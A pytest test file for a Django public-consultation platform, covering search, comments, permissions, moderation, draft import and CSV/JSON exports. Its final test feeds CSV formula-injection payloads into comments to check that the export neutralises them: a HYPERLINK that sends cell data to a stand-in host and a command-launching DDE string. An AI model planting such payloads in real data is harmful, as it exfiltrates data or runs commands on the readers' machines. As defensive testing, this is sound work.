"""Pages: reading, commenting, bounded queries, permissions, exports."""

from __future__ import annotations

import csv
import io

import pytest

from opengov.consultations import services
from opengov.consultations.models import Comment, Consultation, Decision, Kind
from opengov.core.models import AuditEvent

from .conftest import after_period

pytestmark = pytest.mark.django_db


def _comment_many(consultation, people, article=None, n=3):
    for i in range(n):
        services.comment_create(
            actor=people[i % len(people)],
            consultation=consultation,
            article=article,
            body=f"<b>意見</b>{i}",
            stance="support",
        )


def test_list_filters_and_search(client, open_consultation, make_consultation, agency):
    policy = make_consultation(kind=Kind.POLICY, title="Youth policy 青年政策", text=None)
    page = client.get("/consultations/")
    assert page.status_code == 200
    body = page.content.decode()
    assert "&lt;script&gt;x&lt;/script&gt;" in body and "<script>x" not in body
    assert "Youth policy" in body
    only_policy = client.get("/consultations/?kind=policy").content.decode()
    assert "Youth policy" in only_policy and "組織法" not in only_policy
    assert "Youth policy" in client.get("/consultations/?q=youth").content.decode()
    assert "組織法" in client.get("/consultations/?q=組織法").content.decode()
    assert "Youth" not in client.get("/consultations/?q=組織法").content.decode()
    assert "Youth" in client.get("/consultations/?agency=ey").content.decode()
    assert "Youth" not in client.get("/consultations/?agency=moj").content.decode()
    assert "Youth" not in client.get("/consultations/?state=closed").content.decode()
    assert policy.title in Consultation.objects.values_list("title", flat=True)


def test_feed_lists_open_consultations(client, open_consultation, make_consultation):
    draft = make_consultation(publish=False, title="未公開草案")
    feed = client.get("/consultations/feed.atom")
    assert feed.status_code == 200
    assert feed["Content-Type"].startswith("application/atom+xml")
    text = feed.content.decode()
    assert str(open_consultation.public_id) in text
    assert draft.title not in text


def test_detail_and_article_pages_use_bounded_queries(
    client_for, open_consultation, citizen, official, django_assert_max_num_queries
):
    from opengov.accounts.tests.factories import UserFactory

    authors = [UserFactory() for _ in range(3)]
    third = open_consultation.articles.get(position=3)
    _comment_many(open_consultation, authors, n=5)
    _comment_many(open_consultation, authors, article=third, n=5)
    url = f"/consultations/{open_consultation.public_id}/"
    for user in (None, citizen, official):
        client = client_for(user)
        with django_assert_max_num_queries(12):
            page = client.get(url)
        assert page.status_code == 200
        with django_assert_max_num_queries(12):
            article_page = client.get(f"{url}articles/3/")
        assert article_page.status_code == 200
    body = article_page.content.decode()
    assert "&lt;b&gt;意見&lt;/b&gt;" in body
    assert "<del>" in body or "<ins>" in body or "新增" in body
    # more comments do not mean more queries
    _comment_many(open_consultation, authors, article=third, n=20)
    client = client_for(citizen)
    with django_assert_max_num_queries(12):
        assert client.get(f"{url}articles/3/").status_code == 200


def test_citizen_comments_on_an_article_through_the_page(client_for, open_consultation, citizen):
    client = client_for(citizen)
    url = f"/consultations/{open_consultation.public_id}/articles/3/"
    response = client.post(url, {"stance": "oppose", "body": "施行日應延後。"})
    assert response.status_code == 302
    comment = Comment.objects.get()
    assert comment.article.position == 3 and comment.author == citizen
    page = client.get(url).content.decode()
    assert "施行日應延後。" in page
    assert f"/comments/{comment.public_id}/edit/" in page


def test_comment_form_errors_are_shown_next_to_the_field(client_for, open_consultation, citizen):
    url = f"/consultations/{open_consultation.public_id}/"
    page = client_for(citizen).post(url, {"stance": "oppose", "body": ""}).content.decode()
    assert 'aria-invalid="true"' in page
    assert not Comment.objects.exists()


def test_anonymous_and_unverified_cannot_comment(client_for, open_consultation, unverified):
    url = f"/consultations/{open_consultation.public_id}/"
    for user in (None, unverified):
        client_for(user).post(url, {"stance": "oppose", "body": "x"})
    assert not Comment.objects.exists()
    assert "Sign in" in client_for(None).get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode() or (
        "登入" in client_for(None).get(url).content.decode()
    )


def test_late_comment_page_shows_the_closing_date(clock, client_for, open_consultation, citizen):
    after_period(clock, open_consultation)
    url = f"/consultations/{open_consultation.public_id}/"
    page = client_for(citizen).get(url).content.decode()
    assert "2026-05-01" in page
    client_for(citizen).post(url, {"stance": "oppose", "body": "late"})
    assert not Comment.objects.exists()


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("anonymous", False),
        ("citizen", False),
        ("other_official", False),
        ("official", True),
        ("moderator", False),
        ("admin", False),
    ],
)
def test_page_permission_matrix(start, people, client_for, make_consultation, role, allowed):
    draft = make_consultation(publish=False)
    client = client_for(people[role])
    base = f"/consultations/{draft.public_id}/"
    assert (client.get(base).status_code == 200) is allowed
    client.post(base + "edit/", {"title": "被改", "summary": "s", "kind": "policy"})
    client.post(base + "articles/1/edit/", {"label": "第一條", "text": "被改"})
    client.post(base + "publish/")
    draft.refresh_from_db()
    if allowed:
        assert draft.published_at is not None
    else:
        assert draft.published_at is None
        assert draft.title != "被改"
        assert draft.articles.get(position=1).text != "被改"


def test_answer_and_publish_report_through_pages(
    clock,
    client_for,
    open_consultation,
    citizen,
    official,
    other_official,
    mailoutbox,
    django_capture_on_commit_callbacks,
):
    comment = services.comment_create(
        actor=citizen, consultation=open_consultation, body="建議", stance="suggestion"
    )
    after_period(clock, open_consultation)
    base = f"/consultations/{open_consultation.public_id}/"
    answer = {"comments": [str(comment.public_id)], "decision": "adopted", "reason": "採納。"}
    client_for(other_official).post(base + "handle/", answer)
    comment.refresh_from_db()
    assert comment.response is None
    page = client_for(official).post(base + "report/", {"summary": "總結"}).content.decode()
    assert "every comment must be handled" in page or "每則意見" in page
    client_for(official).post(base + "handle/", answer)
    comment.refresh_from_db()
    assert comment.response.decision == Decision.ADOPTED
    assert client_for(citizen).get(base + "report/").status_code == 404
    with django_capture_on_commit_callbacks(execute=True):
        client_for(official).post(base + "report/", {"summary": "總結"})
    report = client_for(None).get(base + "report/").content.decode()
    assert "採納。" in report and "總結" in report
    assert len(mailoutbox) == 1


def test_import_page_shows_the_title_and_general_explanation_of_a_real_table(
    start, client_for, make_consultation, official
):
    from pathlib import Path

    draft = make_consultation(publish=False, text=None)
    client = client_for(official)
    url = f"/consultations/{draft.public_id}/import/"
    text = (Path(__file__).parent / "data" / "amendment_law_tabs.txt").read_text()
    preview = client.post(url, {"text": text})
    page = preview.content.decode()
    assert preview.status_code == 200
    assert 'class="draft-heading"' in page and "個人資料保護法部分條文修正草案" in page
    assert "增訂個人資料保護委員會為本法主管機關" in page  # the 總說明
    assert 'id="accept-unplaced"' not in page
    client.post(url, {"draft": text, "confirm": "1"})
    assert list(draft.articles.values_list("label", flat=True)) == [
        "第一條之一",
        "第 5 條",
        "第四十八條",
        "第五十一條之一",
    ]


def test_import_page_previews_then_imports(start, client_for, make_consultation, official):
    draft = make_consultation(publish=False, text=None)
    client = client_for(official)
    url = f"/consultations/{draft.public_id}/import/"
    text = "草案標題\n第一條 甲。\n說明：理由。\n第 2 條 乙。\n"
    preview = client.post(url, {"text": text}).content.decode()
    assert "第一條" in preview and "草案標題" in preview  # the unplaced line is shown
    assert draft.articles.count() == 0
    assert 'name="accept_unplaced" value="1"' in preview
    # Without confirming that the unplaced line is left out, nothing is imported.
    unconfirmed = client.post(url, {"draft": text, "confirm": "1"})
    assert unconfirmed.status_code == 400 and draft.articles.count() == 0
    page = unconfirmed.content.decode()
    assert 'id="import-refused"' in page and "草案標題" in page
    client.post(url, {"draft": text, "confirm": "1", "accept_unplaced": "1"})
    assert list(draft.articles.values_list("label", flat=True)) == ["第一條", "第 2 條"]
    event = AuditEvent.objects.filter(verb="consultation.articles_imported").latest("id")
    assert event.changes == {"articles": 2, "unplaced_lines": 1, "unplaced_lines_accepted": 1}
    refused = client.post(url, {"text": "沒有條文"}).content.decode()
    assert 'aria-invalid="true"' in refused
    big5 = io.BytesIO("第一條 測試。\n".encode("big5"))
    big5.name = "draft.txt"
    assert "測試。" in client.post(url, {"file": big5}).content.decode()


def test_csv_has_display_names_only(client, open_consultation, citizen):
    services.comment_create(
        actor=citizen, consultation=open_consultation, body="意見", stance="support"
    )
    response = client.get(f"/consultations/{open_consultation.public_id}/comments.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["author"] == citizen.display_name
    assert citizen.email not in text and citizen.real_name not in text
    assert citizen.phone not in text
    doc = client.get(f"/consultations/{open_consultation.public_id}/consultation.json").json()
    assert len(doc["articles"]) == 3 and doc["comments"][0]["body"] == "意見"
    assert citizen.email not in str(doc)


@pytest.mark.parametrize(
    ("role", "allowed"),
    [("anonymous", False), ("citizen", False), ("official", False), ("moderator", True)],
)
def test_hide_page_matrix_and_ground_shown(
    people, client_for, open_consultation, role, allowed, other_official
):
    comment = services.comment_create(
        actor=people["citizen"], consultation=open_consultation, body="廣告內容", stance="support"
    )
    services.comment_report(actor=other_official, comment=comment, reason="廣告")
    client = client_for(people[role])
    base = f"/consultations/{open_consultation.public_id}/"
    queue = client.get("/consultations/moderation/")
    assert (queue.status_code == 200) is allowed
    client.post(f"{base}comments/{comment.public_id}/hide/", {"ground": "advertising"})
    comment.refresh_from_db()
    assert comment.is_hidden is allowed
    page = client_for(None).get(base).content.decode()
    assert ("廣告內容" in page) is not allowed
    if allowed:
        assert "商業宣傳或廣告" in page or "advertising" in page.lower()


def test_author_edits_within_the_window_only(clock, client_for, open_consultation, citizen):
    comment = services.comment_create(
        actor=citizen, consultation=open_consultation, body="原文", stance="support"
    )
    url = f"/consultations/{open_consultation.public_id}/comments/{comment.public_id}/edit/"
    client = client_for(citizen)
    client.post(url, {"stance": "oppose", "body": "改過"})
    comment.refresh_from_db()
    assert comment.body == "改過"
    clock.advance(minutes=16)
    page = client.post(url, {"stance": "oppose", "body": "太晚"}).content.decode()
    comment.refresh_from_db()
    assert comment.body == "改過"
    assert "15" in page
    assert client_for(open_consultation.created_by).get(url).status_code == 404


def test_report_comment_page(client_for, open_consultation, citizen, other_official):
    comment = services.comment_create(
        actor=citizen, consultation=open_consultation, body="x", stance="support"
    )
    url = f"/consultations/{open_consultation.public_id}/comments/{comment.public_id}/report/"
    assert client_for(None).post(url, {"reason": "r"}).status_code == 302
    client_for(other_official).post(url, {"reason": "人身攻擊"})
    comment.refresh_from_db()
    assert comment.report_count == 1


def test_attachment_upload(start, client_for, make_consultation, official, settings, tmp_path):
    from django.core.files.uploadedfile import SimpleUploadedFile

    settings.MEDIA_ROOT = tmp_path
    draft = make_consultation(publish=False)
    url = f"/consultations/{draft.public_id}/attachments/new/"
    client = client_for(official)
    bad = SimpleUploadedFile("run.exe", b"MZ")
    assert 'aria-invalid="true"' in client.post(url, {"title": "x", "file": bad}).content.decode()
    good = SimpleUploadedFile("impact.pdf", b"%PDF-1.4")
    client.post(url, {"title": "影響評估", "file": good})
    assert draft.attachments.get().title == "影響評估"
    assert "影響評估" in client.get(f"/consultations/{draft.public_id}/").content.decode()


def test_article_counts_follow_new_comments_and_edits(
    clock, client_for, open_consultation, citizen
):
    client = client_for(None)
    url = f"/consultations/{open_consultation.public_id}/"
    assert "贊成 0 · 反對 0" in client.get(url).content.decode()
    comment = services.comment_create(
        actor=citizen,
        consultation=open_consultation,
        article=open_consultation.articles.get(position=2),
        body="x",
        stance="support",
    )
    assert "1 則意見 · 贊成 1 · 反對 0" in client.get(url).content.decode()
    services.comment_update(actor=citizen, comment=comment, body="y", stance="oppose")
    assert "1 則意見 · 贊成 0 · 反對 1" in client.get(url).content.decode()
    english = client.get(url, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "贊成 0 · 反對 1" in english or "support 0 · oppose 1" in english


@pytest.mark.parametrize(
    "body",
    ['=HYPERLINK("http://evil.example/?"&A1,"看")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"],
)
def test_csv_for_spreadsheets_makes_formulas_inert(client, open_consultation, citizen, body):
    services.comment_create(
        actor=citizen, consultation=open_consultation, body=body, stance="support"
    )
    response = client.get(f"/consultations/{open_consultation.public_id}/comments.csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0]["body"] == "'" + body
    # The JSON document is not for spreadsheets: it keeps the text exactly.
    doc = client.get(f"/consultations/{open_consultation.public_id}/consultation.json").json()
    assert doc["comments"][0]["body"] == body
